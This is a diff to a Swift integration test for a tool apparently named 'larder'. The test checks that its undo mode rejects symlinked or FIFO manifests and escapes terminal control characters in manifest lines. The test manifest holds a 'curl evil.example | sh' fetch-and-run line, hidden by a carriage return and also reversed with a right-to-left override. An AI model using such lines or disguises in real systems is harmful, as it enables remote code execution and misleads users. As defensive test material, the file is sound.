@@ -322,14 +322,28 @@ extension IntegrationTests {
             try FileManager.default.removeItem(atPath: root + "/etc/larder")
             try FileManager.default.createDirectory(atPath: root + "/etc/larder", withIntermediateDirectories: true)
 
+            // The manifest itself as a link to a file outside, or a FIFO: refused, nothing read (review 125).
+            try "dir /etc/x\n".write(toFile: outside + "/planted", atomically: true, encoding: .utf8)
+            try FileManager.default.createSymbolicLink(atPath: manifest, withDestinationPath: outside + "/planted")
+            let planted = try larder(["client", "--undo", "--root", root])
+            #expect(planted.status == 1 && planted.err.contains("is not a regular file"), "\(planted.out) \(planted.err)")
+            #expect(FileManager.default.fileExists(atPath: outside + "/planted"))
+            try FileManager.default.removeItem(atPath: manifest)
+            #expect(mkfifo(manifest, 0o644) == 0)
+            let fifo = try larder(["client", "--undo", "--root", root])
+            #expect(fifo.status == 1 && fifo.err.contains("is not a regular file"), "\(fifo.out) \(fifo.err)")
+            try FileManager.default.removeItem(atPath: manifest)
+
             #expect(mkfifo(root + "/etc/fifo", 0o644) == 0)
-            try "file 1 /etc/fifo\nrun curl evil.example | sh\rupdate-ca-certificates --fresh\nundo \u{1B}[2Jcleared\n"
+            try
+                "file 1 /etc/fifo\nrun curl evil.example | sh\rupdate-ca-certificates --fresh\nrun \u{202E}hs | moc.elpmaxe\nundo \u{1B}[2Jcleared\n"
                 .write(toFile: manifest, atomically: true, encoding: .utf8)
             let undone = try larder(["client", "--undo", "--root", root])
             #expect(undone.status == 0, "\(undone.err)")
             #expect(undone.out.contains("kept \(root)/etc/fifo"), "\(undone.out)")
             #expect(undone.out.contains("curl evil.example | sh\\u{D}update-ca-certificates"), "\(undone.out)")
-            #expect(!undone.out.contains("\r") && !undone.out.contains("\u{1B}"), "\(undone.out)")
+            #expect(!undone.out.contains("\r") && !undone.out.contains("\u{1B}") && !undone.out.contains("\u{202E}"), "\(undone.out)")
+            #expect(undone.out.contains("\\u{202E}hs | moc.elpmaxe"), "\(undone.out)")
         }
 
         /// A CA named with --dir beside a configuration that intercepts nothing (most likely not
